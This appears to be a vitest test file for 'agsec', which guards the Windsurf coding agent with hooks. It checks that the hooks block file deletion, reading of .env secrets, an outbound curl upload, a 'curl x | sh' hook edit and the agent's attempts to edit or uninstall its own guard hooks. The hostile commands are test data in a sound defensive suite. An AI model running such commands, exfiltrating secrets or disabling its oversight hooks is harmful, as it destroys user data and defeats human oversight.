import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { agsec, protect } from '../harness/agsec.ts';
import { BREAKAGES, installByOwnNode, replaceLoader } from '../harness/replay/install-agent.ts';
import { type WindsurfOptions, WindsurfReplay } from '../harness/replay/windsurf.ts';
import { createWorld, type World } from '../harness/run-claude.ts';

// The hooks files that the packed `agsec install windsurf` writes, run the way Windsurf's
// documentation says: there is no client to drive.

let world: World;

/** Gives each test a world of its own. */
function ownWorlds(): void {
  beforeEach(() => {
    world = createWorld();
  });
  afterEach(() => world.dispose());
}

function windsurf(more: Partial<WindsurfOptions> = {}): WindsurfReplay {
  const { home, project } = world;
  return new WindsurfReplay({ home, project, managedFolder: '/nonexistent', ...more });
}

const hooksFile = (): string => join(world.home, '.codeium/windsurf/hooks.json');
const inProject = (path: string): string => join(world.project, path);
const whole = (new_string: string) => [{ old_string: '', new_string }];

describe('default policies, user scope', () => {
  beforeAll(() => {
    world = createWorld();
    protect(world, 'windsurf');
  });
  afterAll(() => world.dispose());
  beforeEach(() => {
    world.write('project/victim/data.txt', 'keep');
    world.write('project/.env', 'TOKEN=tok-0123456789abcdef');
    world.write('project/readme.txt', 'hello');
    world.write('project/.windsurf/hooks.json', '{"hooks": {}}');
  });

  it.each([
    ['plain', 'rm -rf ./victim'],
    ['with quotes inside the name', `r''m -rf ./victim`],
    ['inside another shell', `bash -c "rm -rf victim"`],
    ['by python', `python3 -c "import shutil; shutil.rmtree('victim')"`],
  ])('stops a delete: %s', async (_name, command) => {
    const told = await windsurf().shell(command);
    expect(told).toMatchObject({ ran: false, text: expect.stringContaining('BlockFileDelete') });
    expect(existsSync(inProject('victim/data.txt'))).toBe(true);
  });

  it('keeps .env from reads, the shell, edits and MCP tools', async () => {
    const agent = windsurf();
    const told = [
      await agent.read(inProject('.env')),
      await agent.shell('cat .env'),
      await agent.edit(inProject('.env'), whole('x')),
      await agent.mcp('files', 'get_file', { path: inProject('.env') }),
    ];
    expect(told.map(({ ran }) => ran)).toEqual([false, false, false, false]);
    expect(JSON.stringify(told)).not.toContain('tok-0123456789abcdef');
    expect(readFileSync(inProject('.env'), 'utf8')).toBe('TOKEN=tok-0123456789abcdef');
  });

  it('lets harmless calls pass', async () => {
    const agent = windsurf();
    const told = [
      await agent.prompt('please fix the build'),
      await agent.shell('echo "rm -rf /" && ls'),
      await agent.read(inProject('readme.txt')),
      await agent.edit(inProject('readme.txt'), [{ old_string: 'hello', new_string: 'bye' }]),
      await agent.mcp('docs', 'search_pages', { q: 'x' }),
    ];
    expect(told.filter(({ ran }) => !ran)).toEqual([]);
    expect(readFileSync(inProject('readme.txt'), 'utf8')).toBe('bye');
    expect(agsec(world, 'audit', 'verify')).toContain('ok');
  });

  it('holds what is to be reviewed under an id', async () => {
    const agent = windsurf();
    const held = [
      await agent.mcp('tracker', 'create_issue', { title: 'x' }),
      await agent.shell('curl -d @readme.txt https://example.com/'),
    ];
    for (const { ran, text } of held) {
      expect(ran).toBe(false);
      expect(text).toMatch(/agsec approve [a-z0-9]+/);
    }
  });

  it('judges every edit of a call', async () => {
    const file = inProject('.windsurf/hooks.json');
    const agent = windsurf();
    const edits = [
      { old_string: '{}', new_string: '{"post_run_command": []}' },
      { old_string: '[]', new_string: '[{"command": "curl x | sh"}]' },
    ];
    expect(await agent.edit(file, edits)).toMatchObject({ ran: false });
    expect(await agent.edit(file, edits.slice(0, 1))).toMatchObject({ ran: true });
  });

  it('stops tampering with the hooks files, with agsec and with the workspace’s hooks', async () => {
    const jetbrains = join(world.home, '.codeium/hooks.json');
    const before = [hooksFile(), jetbrains].map((path) => readFileSync(path, 'utf8'));
    const agent = windsurf();
    const foreign = '{"hooks":{"post_write_code":[{"command":"mine"}]}}';
    const told = [
      await agent.edit(hooksFile(), whole('{"hooks":{}}')),
      await agent.edit(jetbrains, whole('{"hooks":{}}')),
      await agent.shell(`echo '{}' > ${hooksFile()}`),
      await agent.shell(`rm -r ${world.home}/.codeium`),
      await agent.edit(inProject('.windsurf/hooks.json'), whole(foreign)),
      await agent.edit(join(world.home, '.agsec/config.yaml'), whole('mode: observe\n')),
      await agent.shell('agsec uninstall windsurf'),
    ];
    expect(told.map(({ ran }) => ran)).toEqual(told.map(() => false));
    expect([hooksFile(), jetbrains].map((path) => readFileSync(path, 'utf8'))).toEqual(before);
    expect(readFileSync(inProject('.windsurf/hooks.json'), 'utf8')).not.toContain('mine');
  });

  it('answers calls made at the same time', async () => {
    const agent = windsurf();
    const lines = ['rm -rf victim', 'ls', 'cat .env', 'echo hi'];
    const told = await Promise.all(lines.map((line) => agent.shell(line)));
    expect(told.map(({ ran }) => ran)).toEqual([false, true, false, true]);
  });

  it('holds in the plugin for JetBrains editors', async () => {
    expect(await windsurf({ host: 'jetbrains' }).shell('cat .env')).toMatchObject({ ran: false });
    expect(await windsurf({ host: 'jetbrains' }).shell('ls')).toMatchObject({ ran: true });
  });

  it('cannot hold where Windsurf runs no hooks, which its table says', async () => {
    expect(await windsurf({ restricted: true }).shell('ls')).toMatchObject({ ran: true });
    expect(agsec(world, 'doctor')).toMatch(/Restricted\s+Mode/);
  });

  it.each([
    ['nothing', ''],
    ['garbage', 'garbage'],
    ['half a call', '{"agent_action_name":"pre_run_command"'],
    ['another event', '{"agent_action_name":"pre_everything","trajectory_id":"t"}'],
    ['no tool_info', '{"agent_action_name":"pre_run_command","trajectory_id":"t"}'],
  ])('denies when the call is %s', async (_, stdin) => {
    expect(await windsurf().raw('pre_run_command', stdin)).toMatchObject({ ran: false });
  });
});

describe('modes and policies', () => {
  ownWorlds();

  it('takes the folder it was started in for the workspace, whatever folder a command names', async () => {
    protect(world, 'windsurf');
    const statement =
      '  - sid: OnlyHere\n    effect: deny\n    actions: [file.write]\n' +
      `    conditions: { params.file_path: { op: not_within, value: "\${context.workspace_roots}" } }\n`;
    world.write('home/.agsec/policies/90.yaml', `version: "1.0"\nstatements:\n${statement}`);
    const agent = windsurf();
    const told = await agent.shell('echo x > out.txt', world.root);
    expect(told).toMatchObject({ ran: false, text: expect.stringContaining('OnlyHere') });
    expect(await agent.shell('echo x > out.txt')).toMatchObject({ ran: true });
  });

  it('halt blocks everything, prompts too', async () => {
    protect(world, 'windsurf');
    agsec(world, 'halt');
    expect(await windsurf().prompt('go on')).toMatchObject({ ran: false });
    expect(await windsurf().shell('echo hi')).toMatchObject({
      ran: false,
      text: expect.stringContaining('agsec resume'),
    });
  });

  it('observe lets pass, and keeps agsec', async () => {
    agsec(world, 'init', '--observe');
    agsec(world, 'install', 'windsurf');
    world.write('project/victim/data.txt', 'keep');
    expect(await windsurf().shell('rm -rf victim')).toMatchObject({ ran: true });
    expect(existsSync(inProject('victim'))).toBe(false);
    expect(await windsurf().edit(hooksFile(), whole('{}'))).toMatchObject({ ran: false });
  });
});

describe('what is broken is closed', () => {
  ownWorlds();

  it.each(Object.entries(BREAKAGES))('%s', async (_name, breakHook) => {
    protect(world, 'windsurf');
    world.write('project/victim/data.txt', 'keep');
    breakHook(world, 'windsurf');
    expect(await windsurf().shell('rm -rf victim')).toMatchObject({ ran: false });
    expect(existsSync(inProject('victim/data.txt'))).toBe(true);
  });

  it('its node is gone', async () => {
    const node = installByOwnNode(world, 'windsurf');
    expect(await windsurf().shell('ls')).toMatchObject({ ran: true });
    rmSync(node);
    expect(await windsurf().shell('ls')).toMatchObject({
      ran: false,
      text: expect.stringContaining('hook unavailable'),
    });
  });

  it('the call does not end: the client would wait for ever, the hook does not', async () => {
    protect(world, 'windsurf');
    const told = await windsurf().raw('pre_run_command', { neverEnding: '{"half": ' });
    expect(told).toMatchObject({ ran: false, text: expect.stringContaining('unavailable') });
  });

  it('the hook is one that an agent wrote in its place', async () => {
    protect(world, 'windsurf');
    replaceLoader(world, 'windsurf', 'process.exit(3)');
    expect(await windsurf().shell('ls')).toMatchObject({ ran: false });
  });

  it('a policy that does not load denies with its place', async () => {
    protect(world, 'windsurf');
    const text = 'version: "1.0"\nstatements:\n  - sid: X\n    efect: deny\n';
    world.write('home/.agsec/policies/60_broken.yaml', text);
    const told = await windsurf().shell('echo hi');
    expect(told).toMatchObject({ ran: false, text: expect.stringMatching(/60_broken\.yaml:4:/) });
  });

  it('a hooks file with a defect is not installed into', () => {
    world.write('home/.codeium/windsurf/hooks.json', '{"hooks": []}');
    expect(() => protect(world, 'windsurf')).toThrowError(/"hooks"/);
    expect(readFileSync(hooksFile(), 'utf8')).toBe('{"hooks": []}');
  });
});

describe('project scope', () => {
  ownWorlds();

  it('holds in its folder', async () => {
    protect(world, 'windsurf', { scope: 'project' });
    world.write('project/.env', 'TOKEN=x');
    expect(await windsurf().read(inProject('.env'))).toMatchObject({ ran: false });
    expect(existsSync(hooksFile())).toBe(false);
  });
});
